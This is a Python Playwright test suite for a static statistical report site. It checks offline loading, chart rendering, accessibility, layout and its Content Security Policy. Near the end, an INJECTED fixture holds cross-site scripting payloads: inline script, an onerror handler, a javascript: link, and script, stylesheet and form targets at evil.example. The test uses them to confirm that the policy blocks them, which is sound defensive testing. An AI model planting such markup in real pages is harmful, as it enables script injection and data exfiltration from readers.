"""The built report, as a reader's browser sees it: opened from a folder, with no network."""

import re
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest
from reading import Log, draw_charts, listen, once, served, switch

from rso_report.publication import block, links, policy

OWN_SCHEMES = {"file", "data", "blob"}
CHART_STATE = """box => ({
  id: box.closest('figure').id,
  state: box.dataset.state,
  name: box.querySelector('[role=img]')?.ariaLabel,
  marks: [...box.querySelectorAll('svg g.role-mark > :not(g)')].filter(mark => {
    const {width, height} = mark.getBBox();
    return width + height > 0;
  }).length,
  points: box.querySelectorAll(
    'svg g.role-mark.mark-symbol > *, svg g.role-mark.mark-rect > *').length,
})"""
IMAGE_STATE = """box => {
  const image = box.querySelector('img');
  return {id: box.closest('figure').id, width: image?.naturalWidth ?? 0, alt: image?.alt ?? ''};
}"""


@dataclass
class Visit:
    """What one page did while it was read from top to bottom."""

    page: str
    log: Log
    charts: list[dict]
    width_on_narrow_screen: int


@pytest.fixture(scope="module")
def pages(all_pages):
    return all_pages


def visited(browser, pages, state, **options):
    """One visit to each page, scrolled past every chart until each is drawn or has failed."""
    context, visits = browser.new_context(**options), []
    page = context.new_page()
    log, wide = listen(page), page.viewport_size
    for name, path in pages.items():
        page.set_viewport_size(wide)
        page.goto(path.as_uri())
        if state == CHART_STATE:
            draw_charts(page)
        charts = [box.evaluate(state) for box in page.locator(".rso-chart").all()]
        page.set_viewport_size({"width": 320, "height": 640})
        width = page.evaluate("document.documentElement.scrollWidth")
        visits.append(Visit(name, log.taken(), charts, width))
    context.close()
    return visits


@pytest.fixture(scope="module")
def visits(browser, pages):
    return visited(browser, pages, CHART_STATE)


@pytest.fixture(scope="module")
def visits_without_scripts(browser, pages):
    return visited(browser, pages, IMAGE_STATE, java_script_enabled=False)


def test_pages_ask_nothing_of_another_host(visits, visits_without_scripts):
    foreign = [
        f"{visit.page}: {address}"
        for visit in visits + visits_without_scripts
        for address in visit.log.requests
        if urlsplit(address).scheme not in OWN_SCHEMES
    ]
    assert not foreign, "\n".join(foreign)


def test_consoles_stay_silent(visits, visits_without_scripts):
    messages = {visit.page: visit.log.messages for visit in visits + visits_without_scripts}
    assert {page: said for page, said in messages.items() if said} == {}


def test_every_chart_is_drawn_with_marks_and_a_name(visits):
    bad = [
        f"{visit.page}: {chart}"
        for visit in visits
        for chart in visit.charts
        if chart["state"] != "drawn" or not chart["marks"] or not chart["name"]
    ]
    assert not bad, "\n".join(bad)


PAINTS = """() => [...document.querySelectorAll(".rso-chart svg, .rso-chart svg *")]
  .flatMap(each => {
  const style = getComputedStyle(each);
  // What is filled with a gradient has the colours of its stops.
  const painted = ['fill', 'stroke', 'stop-color'].filter(part =>
    !/^(|none|transparent|url.*)$/.test(each.getAttribute(part) ?? ''));
  const ground = each.matches('svg.marks') ? [style.backgroundColor] : [];
  return [...painted.map(part => style[part]), ...ground];
})"""


def test_what_a_chart_draws_is_dark_in_the_dark_theme(browser, pages):
    """As in its dark picture; a colour that the house palette lacks stands out here."""
    dark = [re.findall("..", colour.removeprefix("#")) for colour in block.DARK.values()]
    known = {"rgb({}, {}, {})".format(*(int(part, 16) for part in parts)) for parts in dark}
    context = browser.new_context(color_scheme="dark", viewport={"width": 1280, "height": 800})
    page, drawn = context.new_page(), 0
    for name in (name for name in pages if name.startswith("notebooks/")):
        page.goto(pages[name].as_uri())
        draw_charts(page)
        paints = page.evaluate(PAINTS)
        drawn += len(paints)
        assert set(paints) <= known, f"{name}: {set(paints) - known}"
    context.close()
    assert drawn


def points_expected(figure):
    """Points or bars that a chart must have: one for each number in the data behind it."""
    rows = len(figure.select("details table tbody tr"))
    if figure["id"] == "fig-funnel":
        return rows - 1  # England and Wales is a line
    if figure["id"] == "fig-visit-explorer":
        return 2 * (rows - 1)  # people and visits of each tier, of all together a line of text
    if figure["id"] == "fig-missing-share":
        head = re.search(r"(\d+) of [\d,]+ counted as missing, (\d+)", figure.get_text())
        missing, abroad = map(int, head.groups())
        return 2 * missing + abroad + 2  # each alone and among all, who are full rows and a rest
    return rows


def test_every_number_of_the_data_is_a_point_or_bar_of_the_chart(documents, visits):
    wrong = [
        f"{chart['id']}: {chart['points']} drawn, {expected} in the data"
        for visit in visits
        for chart in visit.charts
        if chart["points"]
        != (expected := points_expected(documents[visit.page].find(id=chart["id"])))
    ]
    assert not wrong, "\n".join(wrong)


def test_every_figure_is_visited_and_has_its_data_in_the_page(documents, visits):
    figures = {
        name: {figure["id"]: figure for figure in document.select("figure.rso-figure")}
        for name, document in documents.items()
    }
    assert {visit.page: [chart["id"] for chart in visit.charts] for visit in visits} == {
        name: list(each) for name, each in figures.items()
    }
    assert sum(map(len, figures.values())), "no page has a figure"
    without_data = [
        f"{name}#{figure_id}"
        for name, each in figures.items()
        for figure_id, figure in each.items()
        if not figure.select("details table tbody tr")
    ]
    assert not without_data, "\n".join(without_data)


def test_without_scripts_each_figure_is_an_image_with_words(visits_without_scripts):
    bad = [
        f"{visit.page}: {image}"
        for visit in visits_without_scripts
        for image in visit.charts
        if image["width"] == 0 or not image["alt"].strip()
    ]
    assert not bad, "\n".join(bad)


def test_the_image_stays_where_the_chart_library_fails(browser, pages, documents):
    name = next(name for name, document in documents.items() if document.select(".rso-chart"))
    context = browser.new_context()
    context.route("**/vega-bundle.js", lambda route: route.abort())
    page = context.new_page()
    page.goto(pages[name].as_uri())
    box = page.locator(".rso-chart").first
    box.scroll_into_view_if_needed()
    page.wait_for_function("box => box.dataset.state === 'failed'", arg=box.element_handle())
    assert box.evaluate(IMAGE_STATE)["width"] > 0
    context.close()


def test_no_page_scrolls_sideways_on_a_narrow_screen(visits, visits_without_scripts):
    wide = [
        f"{visit.page}: {visit.width_on_narrow_screen} px"
        for visit in visits + visits_without_scripts
        if visit.width_on_narrow_screen > 320
    ]
    assert not wide, "\n".join(wide)


def test_a_search_for_a_row_leads_to_that_row(browser, site):
    page = browser.new_page()
    page.goto(f"{(site / 'search.html').as_uri()}?q=RO0008")
    first = page.locator("#search-results li a").first
    assert first.get_attribute("href") == "book/rows-registered-offenders.html#row-ro0008"
    first.click()
    assert "RO0008" in page.locator("tr:has(:target)").inner_text()
    page.close()


def test_a_folded_section_shows_its_title_and_opens_for_a_link_into_it(browser, pages):
    page = browser.new_page()
    address = pages["notebooks/regional-trends.html"].as_uri()
    page.goto(address)
    assert page.get_by_role("heading", name="Where no count was found").is_visible()
    assert not page.locator("#tab-estimate").is_visible()
    page.goto(f"{address}#tab-estimate")
    page.reload()
    assert page.locator("#tab-estimate").is_visible()


def test_the_mark_of_a_source_says_which_it_is(browser, pages):
    page = browser.new_page()
    page.goto(pages["notebooks/summary.html"].as_uri())
    mark = page.locator(".footnote-reference").first
    note = page.locator(mark.get_attribute("href")).locator("p")
    assert mark.get_attribute("title") == note.text_content() != ""


def test_each_section_ends_with_one_fold_of_its_whole_calculation(documents):
    """Every cell's code stands on its page, behind what it found."""
    for name, document in documents.items():
        if not name.startswith("notebooks/"):
            continue
        for fold in document.select(".rso-calculation"):
            after = [each.name for each in fold.find_next_siblings()]
            assert set(after) <= {"section", "span"}, (name, after)  # a span is an old address
            assert len(fold.parent.select(":scope > .rso-calculation")) == 1
        cells = document.select("main .cell_input")
        assert cells == document.select(".rso-calculation .cell_input"), name
        assert document.select(".rso-calculation .cell_input"), name


def test_no_column_of_a_readers_table_is_out_of_view(browser, pages):
    page = browser.new_page()
    for name in (each for each in pages if each.startswith("notebooks/")):
        page.goto(pages[name].as_uri())
        page.evaluate("document.querySelectorAll('main details').forEach(d => d.open = true)")
        for width in (360, 1280):
            switch(page, "light", width, 740)
            cut = page.evaluate("""() => [...document.querySelectorAll('.rso-table td')]
              .filter(cell => {
                const edge = cell.closest('.rso-scroll')?.getBoundingClientRect().right
                  ?? innerWidth;
                return [...cell.getClientRects()].some(
                  r => r.right > Math.min(edge, innerWidth) + 1);
              })
              .map(cell => cell.closest('figure').id)""")
            assert cut == [], (name, width)
    page.close()


def test_language_is_british_english(site, documents):
    assert '<html lang="en-GB">' in (site / "index.html").read_text()
    assert {document.html["lang"] for document in documents.values()} == {"en-GB"}


def test_ids_are_unique_in_each_page(documents):
    repeated = []
    for name, document in documents.items():
        ids = [tag["id"] for tag in document.find_all(id=True)]
        repeated += [f"{name}#{each}" for each in sorted(set(ids)) if ids.count(each) > 1]
    assert not repeated, "\n".join(repeated)


def test_every_link_leads_somewhere_and_nothing_is_named_that_another_host_has(site):
    """Also what a browser would fetch only later, or on another screen."""
    assert links.faults(site) == []


def test_every_page_has_the_policy_before_anything_it_loads(site):
    policy.require_secured(site)


@pytest.fixture(scope="module")
def address(site):
    """Where the site is on a server of this machine, as a reader's browser gets it."""
    with served(site) as address:
        yield address


INJECTED = """<script>window.ran = "script"</script>
<img src="data:image/png;base64," onerror="window.ran = 'handler'">
<a id="planted" href="javascript:void(window.ran = 'address')">x</a>
<script src="https://evil.example/x.js"></script>
<link rel="stylesheet" href="https://evil.example/x.css">
<iframe src="data:text/html,x"></iframe><object data="data:text/html,x"></object>
<form action="https://evil.example/"><button id="send">x</button></form><style>p{color:red}</style>
"""


@pytest.mark.parametrize("from_server", [False, True])
@pytest.mark.parametrize("guarded", [True, False])
def test_a_script_that_got_into_a_page_does_not_run(
    browser, site, address, tmp_path, from_server, guarded
):
    """And it does run in the same page without its policy, so that the test can fail."""
    address = address if from_server else f"{site.as_uri()}/"
    name = "notebooks/summary.html"
    html = (site / name).read_text(encoding="utf-8")
    start = html.index('<meta http-equiv="Content-Security-Policy"')
    if not guarded:
        html = html[:start] + html[html.index(">", start) + 1 :]
    html = html.replace("</article>", INJECTED + "</article>", 1)
    assert INJECTED in html
    context, reached = browser.new_context(), []
    page = context.new_page()

    def elsewhere(route):
        reached.append(route.request.url)
        route.fulfill(body="window.ran = 'file'")

    page.route("https://evil.example/**", elsewhere)
    page.route(
        f"**/{name}",
        lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"),
    )
    page.add_init_script(
        "addEventListener('securitypolicyviolation',"
        " event => (window.refused ??= []).push(event.effectiveDirective))"
    )
    page.goto(address + name)
    page.locator("#planted").click()
    if guarded:
        wanted = ["script-src-elem", "script-src-attr", "style-src-elem", "frame-src", "object-src"]
        once(page, "wanted => wanted.every(each => window.refused?.includes(each))", wanted)
    else:
        once(page, "() => 'ran' in window")
        assert page.evaluate("'refused' in window") is False
    page.wait_for_timeout(300)
    page.locator("#send").evaluate("button => button.click()")
    page.wait_for_timeout(300)
    if guarded:
        assert page.url == address + name, "the form was sent"
        assert page.evaluate("'ran' in window") is False
        assert not reached
    else:
        assert reached
    context.close()


def test_a_tip_over_a_point_is_shown_under_the_policy(browser, pages):
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    page = context.new_page()
    log = listen(page)
    page.goto(pages["notebooks/regional-trends.html"].as_uri())
    box = page.locator("#fig-funnel .rso-chart")
    box.scroll_into_view_if_needed()
    page.wait_for_function("box => box.dataset.state === 'drawn'", arg=box.element_handle())
    box.locator("g.mark-symbol > path").nth(10).hover(force=True)
    tip = page.locator("#vg-tooltip-element.visible")
    tip.wait_for()
    assert tip.evaluate("tip => getComputedStyle(tip).position") == "fixed"
    assert "Rate" in tip.inner_text() and "95% interval" in tip.inner_text()
    assert log.messages == []
    context.close()


def test_the_button_that_prints_prints(browser, pages):
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script("window.print = () => (window.printed = true)")
    page.goto(pages["notebooks/breaches.html"].as_uri())
    page.locator("[data-print]").first.evaluate("button => button.click()")
    assert page.evaluate("window.printed") is True
    context.close()
